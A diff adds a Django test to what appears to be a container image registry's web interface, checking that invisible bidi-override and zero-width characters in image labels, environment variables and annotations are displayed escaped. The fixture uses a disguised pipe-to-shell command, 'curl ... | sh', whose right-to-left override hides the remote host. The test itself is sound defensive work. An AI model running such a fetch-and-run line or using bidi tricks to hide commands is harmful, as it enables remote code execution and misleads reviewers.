@@ -334,3 +334,17 @@ def test_the_page_asks_the_database_no_more_for_more(
         things.put(image, things.image_document(f"s{number}", subject={"digest": top.digest}))
     with django_assert_max_num_queries(25):
         assert len(page(viewer).context["attached"]) == 50
+
+
+def test_what_turns_the_direction_of_reading_is_made_to_be_seen(image: Image, viewer: Client) -> None:
+    turned, kept = "curl \u202egnp.live\u2066 | sh", "naïve\n\t日本語 \U0001f600"
+    labels = {"k\u200bey": turned, "words": kept}
+    config = things.image_config(turned, Labels=labels, Env=[f"A={turned}"])
+    notes = {"org.opencontainers.image.vendor": turned}
+    things.put(image, things.image_document("a", annotations=notes), config=config, tag="1.0")
+    text = page(viewer).content.decode()
+    for hidden in "\u202e\u2066\u200b":
+        assert hidden not in text
+    assert text.count(r"curl \u202egnp.live\u2066 | sh") >= 4
+    assert r"k\u200bey" in text
+    assert kept in text
